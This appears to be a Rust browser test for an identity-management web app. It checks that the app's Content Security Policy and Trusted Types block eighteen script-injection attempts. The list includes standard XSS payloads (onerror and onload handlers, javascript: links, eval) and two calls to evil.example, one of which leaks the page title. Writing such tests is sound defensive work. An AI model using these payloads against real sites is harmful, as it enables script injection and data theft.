//! What the pages' own policy refuses, and that a journey in which anything was refused fails: the other journeys trust
//! in it.

use anyhow::{Result, ensure};
use idm_e2e::{Journey, Page, Role, journey_in_whole_chromium};

/// Ways to have a text run, or to get something out of the page, and what the browser's complaint of each has to
/// say at least.
const REFUSED: [(&str, &str); 18] = [
    ("document.body.innerHTML = '<script>window.ran = 1</script>'", "refused HTML"),
    ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')", "refused HTML"),
    ("document.body.innerHTML = '<svg onload=\"window.ran = 1\"></svg>'", "refused HTML"),
    ("document.body.innerHTML = '<a href=\"javascript:window.ran = 1\">x</a>'", "refused HTML"),
    // This one our own policy for HTML lets pass; the handler is refused all the same.
    (
        "document.body.insertAdjacentHTML('beforeend', '<svg/onload=\"window.ran = 1\"></svg>')",
        "Content Security Policy",
    ),
    ("document.createElement('iframe').srcdoc = '<script>parent.ran = 1</script>'", "refused HTML"),
    ("document.write('<script>window.ran = 1</script>')", "refused HTML"),
    ("document.createElement('script').src = '/boot.js'", "refused script"),
    ("new Worker('/other.js')", "refused script"),
    ("document.createElement('script').text = 'window.ran = 1'", "TrustedScript"),
    ("eval('window.ran = 1')", "Content Security Policy"),
    ("new Function('window.ran = 1')()", "Content Security Policy"),
    ("setTimeout('window.ran = 1')", "TrustedScript"),
    ("trustedTypes.createPolicy('other', { createHTML: text => text })", "TrustedTypePolicy"),
    ("trustedTypes.createPolicy('default', { createHTML: text => text })", "TrustedTypePolicy"),
    ("document.body.setAttribute('style', 'background: red')", "Content Security Policy"),
    ("new Image().src = 'https://evil.example/?' + document.title", "Content Security Policy"),
    ("fetch('https://evil.example/').catch(() => {})", "Content Security Policy"),
];

/// Runs it as a script of the page would: what it throws is caught by nobody.
async fn run(page: &Page, script: &str) -> Result<()> {
    let later =
        format!("setTimeout(() => {{ {script} }}); return new Promise(done => setTimeout(() => done(null), 20))");
    page.script::<Option<bool>>(&later).await.map(drop)
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_policy_refuses_does_not_run_and_fails_a_journey() -> Result<()> {
    journey_in_whole_chromium("attacks-policy", &[], async |journey| {
        let Journey { system, page } = journey;
        page.open(&system.url("/login")).await?;
        page.get(Role::Heading, "Log in").await?;
        let quiet = page.complaints().await?;
        ensure!(quiet.is_empty(), "of nothing it is told: {quiet:#?}");
        for (script, says) in REFUSED {
            run(page, script).await?;
            page.until(&format!("a complaint of `{script}`"), async || {
                let told = page.complaints().await?;
                Ok(told.iter().any(|told| told.contains(says)).then_some(()))
            })
            .await?;
            page.complaints().await?;
            ensure!(!page.script::<bool>("return 'ran' in window").await?, "`{script}` ran");
        }
        page.get(Role::Heading, "Log in").await?;
        Ok(())
    })
    .await
}
